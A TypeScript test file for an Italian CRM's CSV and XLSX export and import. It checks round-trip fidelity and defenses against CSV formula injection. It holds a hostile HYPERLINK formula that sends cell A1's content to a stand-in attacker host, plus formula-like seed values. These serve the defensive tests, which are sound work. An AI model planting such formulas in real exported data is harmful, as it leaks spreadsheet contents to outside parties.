import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type CrmApp,
  cf,
  createClient,
  createCrmApp,
  createPerson,
  json,
  multipart,
  vat,
} from './crm-fixtures.ts';

let t: CrmApp;
const HOSTILE = '=HYPERLINK("http://attaccante.test/?d="&A1,"Clicca qui")';

beforeAll(async () => {
  t = await createCrmApp();
  const [state] = Object.values(t.lookups.client_states ?? {});
  const [category] = Object.values(t.lookups.client_categories ?? {});
  const [type] = Object.values(t.lookups.person_types ?? {});
  const full = await createClient(t, {
    business_name: 'Ritorno Completo S.r.l.',
    vat_number: vat('0123456001'),
    tax_code: cf('RSSMRA80A01H501'),
    sdi_code: 'M5UXCR1',
    pec: 'ritorno@pec.esempio.it',
    email: 'info@ritorno.esempio.it',
    phone: '+39 02 1234567',
    website: 'https://ritorno.esempio.it',
    street: 'Via Roma 1; scala "B"',
    postal_code: '00184',
    city: 'Roma',
    province: 'RM',
    country: 'IT',
    state_id: state,
    category_id: category,
    account_manager_id: t.adminId,
    notes: 'prima riga\nseconda; con "virgolette"\n-meno, +più, @chiocciola',
  });
  await createClient(t, { business_name: HOSTILE, vat_number: vat('0234567002'), notes: '+1+1' });
  await createClient(t, { business_name: '@Chiocciola S.n.c.', notes: '-10' });
  await createPerson(t, {
    first_name: 'Anna',
    last_name: 'Bianchi',
    type_id: type,
    role: '-responsabile acquisti',
    email: 'anna.bianchi@esempio.it',
    phone: '+39 02 7654321',
    mobile: '+39 333 1234567',
    client_id: full.id,
    privacy_consent_on: '2026-03-23',
    notes: '=1+1',
  });
  await createPerson(t, { first_name: '@Luca', last_name: 'Verdi', notes: 'senza cliente' });
});
afterAll(async () => t?.close());

async function upload(url: string, name: string, data: Buffer) {
  const body = multipart({ name, data });
  return t.request({ method: 'POST', url, token: t.admin, payload: body.payload, headers: body.headers });
}

const lists = [
  { list: 'clients', name: 'business_name', header: 'Ragione sociale' },
  { list: 'persons', name: 'last_name', header: 'Cognome' },
] as const;

describe('an export imports back unchanged', () => {
  for (const { list, name, header } of lists) {
    for (const format of ['csv', 'xlsx'] as const) {
      it(`${list} as ${format}: preview shows the stored values, a dry run finds 0 errors and 0 changes`, async () => {
        const stored = json(
          await t.request({ method: 'GET', url: `/api/${list}?per_page=100`, token: t.admin }),
        ).data as Record<string, unknown>[];
        const exported = await t.request({
          method: 'GET',
          url: `/api/${list}/export?format=${format}`,
          token: t.admin,
        });
        expect(exported.statusCode).toBe(200);
        const file = `export.${format}`;

        const preview = await upload(`/api/${list}/import/preview`, file, exported.rawPayload);
        expect(preview.statusCode).toBe(200);
        const body = json(preview);
        expect(body.format).toBe(format);
        expect(body.total_rows).toBe(stored.length);
        const column = body.headers.indexOf(header);
        expect(body.rows.map((r: string[]) => r[column]).sort()).toEqual(stored.map((r) => r[name]).sort());
        for (const field of Object.keys(body.suggested_mapping))
          expect(body.fields.map((f: { field: string }) => f.field)).toContain(field);
        expect(Object.keys(body.suggested_mapping)).toHaveLength(body.fields.length);

        const report = json(await upload(`/api/${list}/import?dry_run=true`, file, exported.rawPayload));
        expect(report).toEqual({
          dry_run: true,
          created: 0,
          updated: 0,
          skipped: stored.length,
          errors: [],
          corrections: [],
        });
      });
    }
  }
});

describe('CSV injection', () => {
  it('CSV text cells that start a formula get a leading apostrophe; numbers keep their sign', async () => {
    const res = await t.request({ method: 'GET', url: '/api/clients/export?format=csv', token: t.admin });
    const [head, ...rows] = parse(res.rawPayload.toString('utf8').slice(1), { delimiter: ';' }) as string[][];
    const col = (h: string) => (head as string[]).indexOf(h);
    const names = rows.map((r) => r[col('Ragione sociale')]);
    expect(names).toContain(`'${HOSTILE}`);
    expect(names).toContain("'@Chiocciola S.n.c.");
    expect(names).not.toContain(HOSTILE);
    expect(rows.map((r) => r[col('Note')])).toEqual(expect.arrayContaining(["'+1+1", "'-10"]));
    expect(rows.map((r) => r[col('Telefono')])).toContain("'+39 02 1234567");
    // A cell whose formula-like text is not at the start is left alone.
    expect(rows.map((r) => r[col('Note')])).toContain(
      'prima riga\nseconda; con "virgolette"\n-meno, +più, @chiocciola',
    );
  });

  it('XLSX cells are always values: the hostile name is a string cell, never a formula', async () => {
    const res = await t.request({ method: 'GET', url: '/api/clients/export?format=xlsx', token: t.admin });
    expect(res.rawPayload.includes(Buffer.from('<f>'))).toBe(false);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const values: unknown[] = [];
    sheet.eachRow((row) => values.push(row.getCell(1).value));
    expect(values).toContain(HOSTILE);
    const hostile = values.indexOf(HOSTILE) + 1;
    expect(sheet.getRow(hostile).getCell(1).type).toBe(ExcelJS.ValueType.String);
  });
});
